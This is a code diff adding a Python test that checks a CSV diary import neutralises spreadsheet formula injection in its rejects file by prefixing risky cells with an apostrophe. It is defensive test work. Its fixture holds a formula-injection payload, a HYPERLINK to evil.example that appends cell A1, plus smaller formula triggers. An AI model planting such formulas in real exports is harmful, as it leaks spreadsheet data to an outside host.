@@ -247,3 +247,24 @@ async def test_imported_entries_escalate_like_posted_ones(maker, tmp_path):
         await s.execute(text("UPDATE webhook_subscriptions SET active = false WHERE id = :i"),
                         {"i": sub.id})
         await s.commit()
+
+
+async def test_rejects_file_never_writes_a_cell_as_a_formula(maker, tmp_path):
+    """Issue 15 break 9: a rejected row's cells that a spreadsheet would run as a formula
+    (`=`, `+`, `-`, `@`) are written back as text, with a leading apostrophe."""
+    slug, (case, _) = await _agency_with_cases(maker)
+    rows = [_row(case.reference, 1), _row(case.reference, 2)]
+    rows[1]["category"] = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
+    rows[1]["location"] = "@SUM(1+1)"
+    rows[1]["witnesses"] = "-2+3"
+    path = _write(tmp_path / "formula.csv", rows)
+    rejects = tmp_path / "rejects.csv"
+    report = await import_diary(maker, path, slug, skip_invalid=True, rejects_path=rejects,
+                                progress=io.StringIO())
+    assert report.invalid == 1
+    with rejects.open(encoding="utf-8") as f:
+        (rejected,) = list(csv.DictReader(f))
+    assert rejected["category"].startswith("'=HYPERLINK")
+    assert rejected["location"] == "'@SUM(1+1)" and rejected["witnesses"] == "'-2+3"
+    for value in rejected.values():
+        assert not value.startswith(("=", "+", "-", "@")), value
